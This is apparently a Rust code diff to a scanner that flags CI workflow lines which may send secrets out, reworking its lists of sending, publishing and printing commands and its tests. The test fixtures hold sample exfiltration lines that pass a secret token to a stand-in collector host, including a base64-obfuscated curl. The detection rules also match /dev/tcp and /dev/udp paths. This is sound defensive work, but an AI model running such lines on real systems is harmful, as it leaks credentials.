@@ -22,9 +22,8 @@ pub(super) fn search(bytes: &[u8], failure: Failure, unread: bool) -> Analysis {
     let everything =
         EVERYTHING.iter().any(|word| lower.contains(word)) || lower.lines().any(dumps_environment);
     let source = everything || !names.is_empty();
-    // A named secret beside an everyday `git push` is a deployment; all of them, or the environment, are not.
     let sink =
-        unread || lower.lines().any(sends) || everything && lower.lines().any(|line| has_word(line, KEEPS));
+        unread || lower.lines().any(sends) || everything && lower.lines().any(|line| has_word(line, PRINTS));
     let mut signals = BTreeSet::from([Signal::Unanalysed]);
     if source && sink {
         signals.insert(Signal::Encoded);
@@ -135,10 +134,12 @@ const SENDS: &[&str] = &[
 ];
 
 /// What lays something where others can fetch it.
-const KEEPS: &[&str] = &["upload-artifact", "git push", "gh release", "docker push", "npx", "cat", "echo"];
+const KEEPS: &[&str] = &["upload-artifact", "git push", "gh release", "docker push", "npx"];
 
-/// Whether a line calls one of the clients, other than to reach a service that everybody knows; or holds the address of a host
-/// that nobody does, for whatever client there is.
+/// What prints; of a single secret it may be its harmless use.
+const PRINTS: &[&str] = &["cat", "echo"];
+
+/// Whether a line calls something that sends or keeps; or holds the address of a host that nobody knows, for whatever client there is.
 fn sends(line: &str) -> bool {
     let hosts: Vec<_> = line
         .match_indices("://")
@@ -151,16 +152,15 @@ fn sends(line: &str) -> bool {
             Some(crate::destination::of_address(&crate::flow::value::Value::text(address)))
         })
         .collect();
-    let known = |place: &crate::destination::Place| {
-        place.local || place.service.is_some() && place.class == crate::report::Class::Service
+    let unknown = |place: &crate::destination::Place| {
+        !(place.local || place.service.is_some() && place.class == crate::report::Class::Service)
     };
-    let known = !hosts.is_empty() && hosts.iter().all(known);
     // `/dev/tcp/HOST/PORT` is no word of its own.
     line.contains("/dev/tcp/")
         || line.contains("/dev/udp/")
-        || !known
-            && (has_word(line, SENDS)
-                || hosts.iter().any(|place| !place.local) && !line.trim_start().starts_with('#'))
+        || has_word(line, SENDS)
+        || has_word(line, KEEPS)
+        || hosts.iter().any(unknown) && !line.trim_start().starts_with('#')
 }
 
 /// Whether a line takes the environment as a whole, not a variable by its name.
@@ -245,6 +245,9 @@ mod tests {
             "tool --to https://collector.example/",
             "dig $T.collector.example",
             "eval \"$(echo Y3VybA== | base64 -d)\"",
+            "curl -sSf -H \"Authorization: $T\" https://api.github.com/repos/a/b",
+            "git push origin main",
+            "x\n- uses: actions/upload-artifact@v4",
         ] {
             assert!(suspects(&format!("env: {{T: '${{{{ secrets.TOKEN }}}}'}}\nrun: {way}\n")), "{way}");
             assert!(!suspects(&format!("env: {{T: nothing}}\nrun: {way}\n")), "{way}");
@@ -257,15 +260,13 @@ mod tests {
         }
     }
 
-    /// Near miss: words that end like a client, services that everybody knows, and variables by their names.
+    /// Near miss: words that end like a client, the address of a service that everybody knows, and variables by their names.
     #[test]
     fn what_is_no_way_out() {
         for line in [
             "npm run sync all",
             "echo skipping this, mapping that",
-            "curl -sSf https://api.github.com/repos/a/b",
-            "git push origin main",
-            "uses: actions/upload-artifact@v4",
+            "uses: actions/checkout@v4 of https://github.com/a/b",
             "make\n# see https://docs.widgets.example/ for more",
             "const a = process.env.A",
             "permissions: {pull-requests: write}",
